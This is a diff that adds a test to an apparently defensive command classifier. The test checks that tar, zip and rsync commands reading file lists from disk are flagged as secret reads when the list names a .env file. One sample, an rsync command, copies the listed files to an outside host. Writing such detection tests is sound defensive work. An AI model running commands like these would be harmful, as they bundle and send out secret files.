@@ -148,3 +148,22 @@ class TestRepositoriesOnDisk:
     def test_gitdir_file_pointing_elsewhere(self, tmp_path: Path) -> None:
         self._tree(tmp_path)
         assert "env_code" in self._git_markers("git status", tmp_path, tmp_path / "linked")
+
+
+def test_list_files_are_read_from_disk(tmp_path: Path) -> None:
+    (tmp_path / "bad.txt").write_text("src\n.env\n")
+    (tmp_path / "ok.txt").write_text("src\nREADME.md\n")
+
+    def classes(command: str) -> set[str]:
+        return set().union(*(c.classes for c in _facts(command, tmp_path).commands))
+
+    for command in (
+        "tar -cf out.tar -T bad.txt",
+        "tar -czf out.tgz --files-from=bad.txt",
+        "rsync -a --files-from=bad.txt . x.io:/tmp",
+        "zip out.zip -@ < bad.txt",
+    ):
+        assert "secret_read" in classes(command), command
+        assert "secret_read" not in classes(command.replace("bad.txt", "ok.txt")), command
+    missing = _facts("tar -cf out.tar -T missing.txt", tmp_path).commands[0]
+    assert None in [p.resolved for p in missing.paths if p.source == "list"]
